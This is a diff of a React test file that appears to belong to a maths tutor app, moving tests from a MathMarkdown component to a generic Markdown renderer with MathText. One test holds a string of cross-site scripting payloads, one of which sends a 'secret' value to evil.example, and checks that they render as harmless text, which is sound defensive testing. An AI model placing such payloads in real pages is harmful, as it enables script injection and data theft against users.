@@ -1,7 +1,8 @@
 import { cleanup, render } from '@testing-library/react';
 import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
+import { blocksOf, inlinesOf, Markdown } from '../../ui/Markdown.tsx';
 import { loadMaths } from './drawing/drawing.ts';
-import { blocksOf, inlinesOf, MathMarkdown } from './MathMarkdown.tsx';
+import { MathText } from './MathText.tsx';
 
 // KaTeX refuses to draw in quirks mode, which the simulated page claims to be in.
 vi.hoisted(() => Object.defineProperty(document, 'compatMode', { value: 'CSS1Compat' }));
@@ -11,7 +12,10 @@ afterEach(cleanup);
 describe('a reply of the tutor', () => {
   it('has paragraphs, lists and bold words with formulas in them', () => {
     const { container } = render(
-      <MathMarkdown text={'**Option A, $x^2$.** You\nadded.\n\n- **A** one\n- **B** $\\frac{1}{2}$'} />,
+      <Markdown
+        Words={MathText}
+        text={'**Option A, $x^2$.** You\nadded.\n\n- **A** one\n- **B** $\\frac{1}{2}$'}
+      />,
     );
     expect(container.querySelectorAll('p')).toHaveLength(1);
     expect(container.querySelectorAll('li')).toHaveLength(2);
@@ -26,7 +30,7 @@ describe('a reply of the tutor', () => {
   it('S047 is text, whatever a model wrote', () => {
     const hostile =
       '<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1)) ![x](http://evil.example/?q=secret) $\\href{javascript:alert(1)}{x}$ <iframe src="//evil.example"></iframe>';
-    const { container } = render(<MathMarkdown text={hostile} />);
+    const { container } = render(<Markdown Words={MathText} text={hostile} />);
     expect(container.querySelector('script, img, a, iframe, [href], [src]')).toBeNull();
     expect(container.textContent).toContain('<script>alert(1)</script>');
     expect(blocksOf('')).toEqual([]);
